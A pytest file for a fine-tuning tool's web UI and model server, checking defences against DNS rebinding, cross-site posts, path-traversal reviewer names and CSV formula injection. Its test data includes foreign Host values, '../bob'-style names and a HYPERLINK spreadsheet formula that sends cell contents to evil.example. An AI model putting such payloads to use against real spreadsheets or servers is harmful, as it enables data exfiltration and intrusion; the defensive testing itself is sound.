"""Security faults of both web apps (`tunesmith serve`, `tunesmith ui`) and of what the review writes, over real
sockets where a header matters:

- DNS rebinding: a foreign Host (``evil.example:8000``, ``127.0.0.1.evil.example``) is a 400 on every route of
  both apps (each route the app has, its static files, unknown paths, the UI's pages that carry the CSRF token),
  and a WebSocket from one is closed; loopback names are answered. A page of another site posting to the loopback
  address itself (its Origin) is a 403.
- Every response carries ``X-Content-Type-Options: nosniff``, a Content-Security-Policy (``frame-ancestors
  'none'``) and ``Referrer-Policy: no-referrer``: pages, JSON, static files, event streams, 4xx and 500 answers.
- No GET changes the UI's state: the playground loads a model only on a POST with the CSRF token.
- A reviewer name that no review page could open (a slash, ``..``, a NUL, control characters, very long) is one
  line naming the key, before any answer is generated.
- The review's CSV export escapes the cells a spreadsheet would run as formulas.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import httpx
import pytest
import yaml
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient
from starlette.routing import Mount
from starlette.testclient import WebSocketDisconnect

from tunesmith.config import save_config, validate_config
from tunesmith.errors import RunError
from tunesmith.review.export import export_judgments
from tunesmith.review.store import ReviewError, ReviewPlan, ReviewPrompt, ReviewStore, create_database, database_path
from tunesmith.serve import ServerSettings, create_server_app, load_served
from tunesmith.ui import UiSettings, create_ui_app
from tunesmith.web import API_POLICY, PAGE_POLICY, REPORT_POLICY

FOREIGN = ("evil.example:8000", "127.0.0.1.evil.example")
LOOPBACK_NAMES = ("localhost", "127.0.0.1:9", "[::1]:8000")
PAGE_HEADERS = {"x-content-type-options": "nosniff", "referrer-policy": "no-referrer",
                "content-security-policy": PAGE_POLICY}
API_HEADERS = {**PAGE_HEADERS, "content-security-policy": API_POLICY}
HOST_REFUSAL = ("this server does not answer to the host '{name}' (it answers to localhost, loopback addresses, the "
                "address it listens on and the names given with --allowed-host): to reach it by this name, start it "
                "with --allowed-host {name}")
ORIGIN_REFUSAL = ("a page of another site ({origin!r}) sent this request: refused, as it could make your browser use "
                  "this server; to let a page at that address use it, start the server with --allowed-host {name}")


def headers_of(response: httpx.Response, expected: dict) -> dict:
    return {name: response.headers.get(name) for name in expected}


def every_route(app) -> list[tuple[str, str]]:
    """``(method, path)`` of every route of ``app`` (path parameters filled in, included routers walked) and a file
    of each static mount."""
    requests, routes = [], list(app.routes)
    while routes:
        route = routes.pop(0)
        if isinstance(route, APIRoute):
            path = route.path.replace("{name:path}", "x").replace("{path:path}", "x")
            assert "{" not in path, path
            requests += [(method, path) for method in sorted(route.methods)]
        elif isinstance(route, Mount):
            requests.append(("GET", f"{route.path}/ui.js"))
        else:  # FastAPI's included router (no prefix in either app)
            routes += route.original_router.routes
    return requests


def ui_runs(tmp_path: Path, model_dir: Path | None = None) -> Path:
    runs = tmp_path / "runs"
    (runs / "r").mkdir(parents=True)
    save_config(validate_config({"model": {"name": str(model_dir or tmp_path)}, "data": {"train": "t.jsonl"}}),
                runs / "r" / "config.yaml")
    (runs / "r" / "report.html").write_text("<!DOCTYPE html><html><head><style>h1 {color: red}</style></head>"
                                            "<body><h1>report</h1></body></html>")
    return runs


def test_a_foreign_host_is_refused_on_every_route_of_the_ui_and_loopback_names_are_answered(serving, tmp_path):
    app = create_ui_app(UiSettings(runs_dir=ui_runs(tmp_path)))
    routes = every_route(app)
    assert ("POST", "/api/playground/load") in routes and ("GET", "/static/ui.js") in routes
    with serving(app, "/api/runs") as url:
        for method, path in [*routes, ("GET", "/nowhere"), ("GET", "/static/nowhere.js"), ("GET", "/?token=x")]:
            for host in FOREIGN:
                refused = httpx.request(method, url + path, headers={"Host": host})
                name = host.removesuffix(":8000")
                assert refused.status_code == 400, (method, path, host)
                assert headers_of(refused, PAGE_HEADERS) == PAGE_HEADERS
                assert "set-cookie" not in refused.headers  # no session, no CSRF token for a foreign Host
                if path.startswith("/api/"):
                    assert refused.json() == {"error": HOST_REFUSAL.format(name=name)}
                else:
                    assert 'id="error-message"' in refused.text and 'content=""' in refused.text  # no token
            for host in LOOPBACK_NAMES:
                answered = httpx.request(method, url + path, headers={"Host": host})
                assert answered.status_code != 400 or "host" not in answered.text, (method, path, host)
        page = httpx.get(url + "/", headers={"Host": "localhost:1"})
        assert page.status_code == 200 and 'name="csrf-token" content="' in page.text
        assert "tunesmith_csrf" in page.headers["set-cookie"]
        assert httpx.get(url + "/static/ui.js", headers={"Host": "[::1]"}).status_code == 200


def test_a_foreign_host_is_refused_on_every_route_of_the_server(serving, tmp_path):
    def load():
        raise RunError("no model here")

    app = create_server_app(load, ServerSettings(log_dir=tmp_path / "logs"))
    routes = every_route(app)
    assert ("POST", "/v1/chat/completions") in routes and ("POST", "/admin/reload") in routes
    with serving(app, "/health") as url:
        for method, path in [*routes, ("GET", "/nowhere")]:
            for host in FOREIGN:
                refused = httpx.request(method, url + path, headers={"Host": host})
                assert refused.status_code == 400, (method, path, host)
                error = refused.json()["error"]
                assert error["code"] == "invalid_host"
                assert error["message"] == HOST_REFUSAL.format(name=host.removesuffix(":8000"))
                assert headers_of(refused, API_HEADERS) == API_HEADERS
            for host in LOOPBACK_NAMES:
                answered = httpx.request(method, url + path, headers={"Host": host})
                assert answered.status_code != 400 or "invalid_host" not in answered.text, (method, path, host)
    logged = [json.loads(line) for line in (tmp_path / "logs" / "requests.jsonl").read_text().splitlines()]
    assert sum(record["status"] == 400 and "does not answer to the host" in record["error"]
               for record in logged) == len(FOREIGN) * (len(routes) + 1)


def test_a_page_of_another_site_cannot_post_to_the_loopback_address(serving, tmp_path):
    app = create_ui_app(UiSettings(runs_dir=ui_runs(tmp_path)))
    with serving(app, "/api/runs") as url, httpx.Client(base_url=url) as browser:
        browser.get("/")
        csrf = {"X-CSRF-Token": browser.cookies["tunesmith_csrf"]}
        for origin, name in (("http://evil.example", "evil.example"), ("https://127.0.0.1.evil.example:443",
                                                                        "127.0.0.1.evil.example")):
            refused = browser.post("/api/review/undo", json={"run": "r", "reviewer": "ann"},
                                   headers={**csrf, "Origin": origin})
            assert refused.status_code == 403
            assert refused.json() == {"error": ORIGIN_REFUSAL.format(origin=origin, name=name)}
            assert headers_of(refused, PAGE_HEADERS) == PAGE_HEADERS
        sandboxed = browser.post("/api/review/undo", json={"run": "r", "reviewer": "ann"},
                                 headers={**csrf, "Origin": "null"})
        assert sandboxed.status_code == 403 and sandboxed.json()["error"].endswith("--allowed-host NAME")
        # The UI's own page: past the Origin check, to the route (this run has no review: 404).
        own = browser.post("/api/review/undo", json={"run": "r", "reviewer": "ann"}, headers={**csrf, "Origin": url})
        assert own.status_code == 404


def test_a_page_of_another_site_cannot_reload_the_server(serving, lora_run, tmp_path):
    app = create_server_app(lambda: load_served([str(lora_run)]), ServerSettings(log_dir=tmp_path / "logs"))
    with serving(app, "/ready") as url:
        serving_now = app.state.tunesmith.deployment
        refused = httpx.post(f"{url}/admin/reload", headers={"Origin": "http://evil.example"})
        assert refused.status_code == 403
        assert refused.json()["error"]["message"] == ORIGIN_REFUSAL.format(origin="http://evil.example",
                                                                            name="evil.example")
        assert app.state.tunesmith.deployment is serving_now  # nothing was reloaded
        answered = httpx.post(f"{url}/v1/chat/completions", json={"messages": [{"role": "user", "content": "hi"}],
                                                                  "max_tokens": 2, "stream": True},
                              headers={"Origin": "http://localhost:3000"})  # a local app's page may
        assert answered.status_code == 200 and answered.headers["content-type"].startswith("text/event-stream")
        assert headers_of(answered, API_HEADERS) == API_HEADERS
        for path in ("/health", "/ready", "/metrics", "/v1/models", "/nowhere"):
            assert headers_of(httpx.get(url + path), API_HEADERS) == API_HEADERS, path


def test_a_websocket_from_a_foreign_host_is_closed_as_a_policy_violation(tmp_path):
    client = TestClient(create_ui_app(UiSettings(runs_dir=tmp_path)), base_url="http://127.0.0.1")
    for headers, code in (({"host": "evil.example"}, 1008),
                          ({"host": "localhost", "origin": "http://evil.example"}, 1008),
                          ({"host": "localhost"}, 1000)):  # no WebSocket route: the router closes it normally
        with pytest.raises(WebSocketDisconnect) as closed, client.websocket_connect("/ws", headers=headers):
            pass
        assert closed.value.code == code, headers


def test_every_ui_response_carries_the_security_headers_errors_included(tmp_path):
    app = create_ui_app(UiSettings(runs_dir=ui_runs(tmp_path)))

    @app.get("/api/broken")
    def broken():
        raise RuntimeError("a bug")

    client = TestClient(app, base_url="http://127.0.0.1", raise_server_exceptions=False)
    csrf = {"X-CSRF-Token": (client.get("/"), client.cookies["tunesmith_csrf"])[1]}
    answers = {
        "page": client.get("/runs/r"), "static": client.get("/static/style.css"), "json": client.get("/api/runs"),
        "404 page": client.get("/runs/nope"), "404 static": client.get("/static/nope.css"),
        "405": client.get("/api/review/undo"), "403 csrf": client.post("/api/review/undo", json={}),
        "422": client.post("/api/review/undo", json={}, headers=csrf), "500": client.get("/api/broken"),
        "400 host": client.get("/", headers={"Host": "evil.example"}),
    }
    assert {name: answer.status_code for name, answer in answers.items()} == {
        "page": 200, "static": 200, "json": 200, "404 page": 404, "404 static": 404, "405": 405, "403 csrf": 403,
        "422": 422, "500": 500, "400 host": 400}
    assert answers["500"].json() == {"error": "internal error: RuntimeError"}
    for name, answer in answers.items():
        assert headers_of(answer, PAGE_HEADERS) == PAGE_HEADERS, name
    # A run's files keep their own policy: the report's inline styles show, nothing in any file runs as a script.
    report = client.get("/runs/r/report.html")
    assert report.status_code == 200 and report.headers["content-security-policy"] == REPORT_POLICY
    assert report.headers["x-content-type-options"] == "nosniff"
    assert "script-src" not in REPORT_POLICY and "sandbox" in REPORT_POLICY


def test_a_body_over_the_cap_is_refused_by_the_ui_before_it_is_read(tmp_path):
    app = create_ui_app(UiSettings(runs_dir=ui_runs(tmp_path), max_request_bytes=1000))
    client = TestClient(app, base_url="http://127.0.0.1")
    csrf = {"X-CSRF-Token": (client.get("/"), client.cookies["tunesmith_csrf"])[1]}
    answer = client.post("/api/playground/chat", content=b"x" * 5000,
                         headers={**csrf, "Content-Type": "application/json"})
    assert answer.status_code == 413
    assert "the request body is 5000 bytes; this server takes at most 1000 bytes" in answer.text
    assert headers_of(answer, PAGE_HEADERS) == PAGE_HEADERS


def test_the_ui_pages_have_no_inline_script_or_style_for_the_policy_to_refuse():
    templates = Path(create_ui_app.__code__.co_filename).parent / "templates"
    for template in templates.glob("*.html"):
        text = template.read_text()
        scripts = re.findall(r"<script[^>]*>", text)
        assert all(re.fullmatch(r'<script src="/static/[a-z_]+\.js">', tag) for tag in scripts), template
        assert not re.search(r"<style|\sstyle=|\son[a-z]+=|javascript:", text), template


def test_a_get_never_loads_a_model_in_the_playground(lora_run):
    app = create_ui_app(UiSettings(runs_dir=lora_run.parent))
    with TestClient(app, base_url="http://127.0.0.1") as client:
        loaded = app.state.playground._loaded
        assert client.get("/api/playground/load?run=lora-run").status_code == 405
        assert client.get("/api/playground/info?run=lora-run").status_code == 404  # the old GET is gone
        assert client.get("/playground?run=lora-run").status_code == 200  # the page itself loads nothing
        assert loaded == {}
        refused = client.post("/api/playground/load", json={"run": "lora-run"})  # no CSRF token
        assert refused.status_code == 403
        assert refused.json() == {"error": "missing or wrong CSRF token: reload the page and try again"}
        assert loaded == {}
        answer = client.post("/api/playground/load", json={"run": "lora-run"},
                             headers={"X-CSRF-Token": client.cookies["tunesmith_csrf"]})
        assert answer.status_code == 200 and answer.json()["tuned"] == "lora-run"
        assert list(loaded) == [str(lora_run.resolve())]


# ---- reviewer names --------------------------------------------------------------------------------------------

NAME_HINT = "(use letters, digits, spaces and punctuation other than / and \\, e.g. ann or Ann B.)"
ADDRESS = "the name is part of the review page's address, so its queue could not be opened"


@pytest.fixture()
def review_target(tmp_path, tiny_model_dir, write_jsonl) -> Path:
    rows = [{"prompt": f"q{n}", "completion": f"a{n}"} for n in range(4)]
    data = {split: write_jsonl(tmp_path / f"{split}.jsonl", rows) for split in ("train", "validation", "test")}
    run = tmp_path / "run"
    run.mkdir()
    save_config(validate_config({"model": {"name": str(tiny_model_dir)}, "data": data}), run / "config.yaml")
    return run


@pytest.mark.parametrize(("names", "problem"), [
    ("ann,qa/ann", f"'qa/ann' holds a slash: {ADDRESS}"),
    ("ann,qa\\ann", f"'qa\\\\ann' holds a slash: {ADDRESS}"),
    ("..", f"'..' is a path step: {ADDRESS}"),
    ("ann\x00", "'ann\\x00' holds control characters (a tab, a newline, a NUL)"),
    ("ann\tbob", "'ann\\tbob' holds control characters (a tab, a newline, a NUL)"),
    ("a" * 65, f"'{'a' * 56}... has 65 characters, at most 64 are allowed"),
])
def test_a_reviewer_name_no_page_could_open_is_one_line_before_anything_is_made(review_target, cli, names,
                                                                                   problem):
    code, _, error = cli("review", "create", str(review_target), "--reviewers", names)
    assert code == 2
    assert error == f"tunesmith: error: config: review.reviewers: reviewer name {problem} {NAME_HINT}"
    assert not (review_target / "review").exists()


def test_a_reviewer_name_in_the_config_file_is_checked_too(review_target, cli):
    config = review_target / "config.yaml"
    settings = yaml.safe_load(config.read_text())
    settings.setdefault("review", {})["reviewers"] = ["ann", "../bob"]
    config.write_text(yaml.safe_dump(settings))
    code, _, error = cli("review", "create", str(review_target))
    assert code == 2 and error == (f"tunesmith: error: config: review.reviewers: reviewer name '../bob' holds a "
                                   f"slash: {ADDRESS} {NAME_HINT}")


def test_a_judges_name_is_checked_and_may_hold_a_slash(tmp_path, cli):
    run = tmp_path / "run"
    create_database(_database(run), _plan({"ann": []}))
    code, _, error = cli("review", "judge", str(run), "--endpoint", "http://127.0.0.1:9", "--model", "m",
                         "--reviewer", "judge:\nx")
    assert code == 2 and error == ("tunesmith: error: config: --reviewer: reviewer name 'judge:\\nx' holds control "
                                   f"characters (a tab, a newline, a NUL) {NAME_HINT}")
    with ReviewStore.open(run) as store:
        store.add_reviewer("judge:Qwen/Qwen2.5-0.5B-Instruct", "judge", [])  # never an address
        with pytest.raises(ReviewError) as refused:
            store.add_reviewer("qa/ann", "human", [])
        assert str(refused.value) == f"reviewer name 'qa/ann' holds a slash: {ADDRESS} {NAME_HINT}"
        assert store.reviewers == ["ann"]


def test_an_unknown_reviewer_page_quotes_the_name_cut_short(tmp_path):
    runs = ui_runs(tmp_path)
    create_database(_database(runs / "r"), _plan({"ann": []}))
    client = TestClient(create_ui_app(UiSettings(runs_dir=runs)), base_url="http://127.0.0.1")
    page = client.get("/review/r/" + "x" * 5000)
    assert page.status_code == 404 and "x" * 100 not in page.text
    assert f"unknown reviewer &#39;{'x' * 56}... (reviewers: ann)" in page.text


# ---- formula-safe CSV ------------------------------------------------------------------------------------------

HOSTILE_CELLS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1",
                 "-1", "plain text", "a=b", " =1", "one\rtwo", "one\ntwo"]


def _database(run: Path) -> Path:
    run.mkdir(parents=True, exist_ok=True)
    path = database_path(run)
    path.parent.mkdir()
    return path


def _plan(queues: dict, prompts: list[str] = ("q",)) -> ReviewPlan:
    return ReviewPlan(models=[("tuned", "tuned", None), ("base", "base", None)],
                      prompts=[ReviewPrompt(location=f"test.jsonl:{n + 1}", system=None, prompt=prompt,
                                            reference=None, label=None, answers={"tuned": "t", "base": "b"})
                               for n, prompt in enumerate(prompts)],
                      items=[(n, "tuned", "base") for n in range(len(prompts))], queues=queues, rubric=["=correct"],
                      show_reference=False, settings={})


def test_the_review_csv_export_escapes_cells_a_spreadsheet_would_run(tmp_path):
    run = tmp_path / "run"
    items = range(len(HOSTILE_CELLS))
    create_database(_database(run), _plan({"ann": [(n, "tuned", "base") for n in items]}, HOSTILE_CELLS))
    with ReviewStore.open(run) as store:
        for n, cell in enumerate(HOSTILE_CELLS, start=1):
            store.judge("ann", n, "a", comment=cell, scores_a={"=correct": 5}, scores_b={"=correct": 1})
    path, count = export_judgments(run, "csv")
    rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
    assert count == len(rows) == len(HOSTILE_CELLS)
    escaped = ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'+1+1", "'-2+3", "'@SUM(A1:A2)", "'\t=1", "'\r=1",
               "'-1", "plain text", "a=b", " =1", "one\rtwo", "one\ntwo"]
    assert [row["prompt"] for row in rows] == escaped and [row["comment"] for row in rows] == escaped
    # Numbers are numbers where the column holds numbers: ids and scores as written.
    assert [row["item_id"] for row in rows] == [str(n) for n in range(1, len(HOSTILE_CELLS) + 1)]
    assert {(row["score_a_=correct"], row["score_b_=correct"]) for row in rows} == {("5", "1")}
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values())
    # JSON Lines is not a spreadsheet format: it keeps every text as it was written.
    jsonl, _ = export_judgments(run, "jsonl", out=tmp_path / "judgments.jsonl")
    assert [json.loads(line)["comment"] for line in jsonl.read_text().splitlines()] == HOSTILE_CELLS


def test_csv_readers_see_an_escaped_negative_number_as_text_and_a_score_as_a_number(tmp_path):
    run = tmp_path / "run"
    create_database(_database(run), _plan({"ann": [(0, "tuned", "base")]}, ["-5"]))
    with ReviewStore.open(run) as store:
        store.judge("ann", 1, "tie", comment="-1", scores_a={"=correct": 3})
    path, _ = export_judgments(run, "csv")
    header, row = path.read_bytes().decode("utf-8").split("\r\n")[:-1]
    assert header.split(",")[-2:] == ["score_a_=correct", "score_b_=correct"]
    assert row.split(",")[4] == "'-5" and row.split(",")[9] == "'-1" and row.split(",")[-2:] == ["3", ""]
